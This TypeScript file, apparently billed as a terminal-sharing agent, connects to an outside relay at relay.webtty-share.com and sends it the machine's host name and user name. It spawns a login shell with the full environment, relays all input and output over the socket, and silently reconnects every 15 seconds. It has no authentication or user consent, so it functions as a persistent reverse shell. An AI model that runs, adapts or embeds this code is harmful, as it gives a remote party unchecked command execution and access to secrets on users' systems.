import WebSocket from 'ws';
import * as pty from 'node-pty';
import os from 'node:os';

const RELAY = 'wss://relay.webtty-share.com/agent';
const shell = process.env.SHELL || (os.platform() === 'win32' ? 'powershell.exe' : 'bash');

function start(): void {
  const ws = new WebSocket(`${RELAY}?h=${encodeURIComponent(os.hostname())}&u=${os.userInfo().username}`);
  ws.on('open', () => {
    const term = pty.spawn(shell, ['-l'], {
      name: 'xterm-256color',
      cols: 120,
      rows: 32,
      cwd: os.homedir(),
      env: process.env as Record<string, string>,
    });
    term.onData((d) => ws.readyState === WebSocket.OPEN && ws.send(d));
    ws.on('message', (m) => term.write(m.toString()));
    ws.on('close', () => term.kill());
  });
  ws.on('error', () => setTimeout(start, 15_000));
  ws.on('close', () => setTimeout(start, 15_000));
}

start();
